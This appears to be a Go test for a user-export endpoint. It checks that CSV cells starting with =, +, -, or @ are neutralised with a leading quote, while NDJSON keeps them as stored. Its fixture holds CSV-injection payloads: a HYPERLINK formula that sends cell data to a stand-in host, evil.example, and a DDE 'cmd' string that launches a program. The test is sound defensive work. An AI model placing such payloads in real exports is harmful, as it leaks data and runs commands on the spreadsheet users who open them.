package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/perkshq/perks/internal/apptest"
)

// TestCSVExportNeutralisesFormulas: a partner's user whose fields start
// with =, +, -, @ (OWASP's CSV injection characters) is exported in CSV with
// those cells prefixed by a single quote, so a spreadsheet shows text and
// runs no formula; NDJSON carries the values unchanged.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	user := map[string]any{
		"externalUserId": "-2+3",
		"email":          "+1@example.com",
		"displayName":    `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		"firstName":      "@SUM(1+1)*cmd|' /C calc'!A0",
		"lastName":       "plain",
	}
	res := env.PartnerJSON("acme", http.MethodPost, "/integrations/users", user)
	require.Equal(t, http.StatusCreated, res.StatusCode, "%s", res.Body)
	env.WaitExportable()

	csvRes := env.Partner("acme", http.MethodGet, "/integrations/exports/users", nil, map[string]string{"Accept": "text/csv"})
	require.Equal(t, http.StatusOK, csvRes.StatusCode)
	r := csv.NewReader(bytes.NewReader(csvRes.Body))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	require.NoError(t, err)
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	var row []string
	for _, rec := range recs[1:] {
		if len(rec) > col["externalUserId"] && rec[col["externalUserId"]] != "" && rec[0] != "#cursor" {
			row = rec
		}
	}
	require.NotNil(t, row, "the user is exported")
	for field, want := range user {
		if field == "lastName" {
			require.Equal(t, want, row[col[field]], "a harmless cell is unchanged")
			continue
		}
		require.Equal(t, "'"+want.(string), row[col[field]], field)
	}
	for _, cell := range row {
		if cell == "" {
			continue
		}
		require.NotContains(t, "=+-@\t\r", cell[:1], "cell %q starts a formula", cell)
	}

	_, nd := fetch(t, env, "acme", "", 0, nil)
	var pr map[string]any
	for _, l := range nd {
		if l.Profile != nil {
			require.NoError(t, json.Unmarshal(*l.Profile, &pr))
			if pr["externalUserId"] == "-2+3" {
				break
			}
		}
	}
	for field, want := range user {
		require.Equal(t, want, pr[field], "NDJSON keeps %s as stored", field)
	}
}
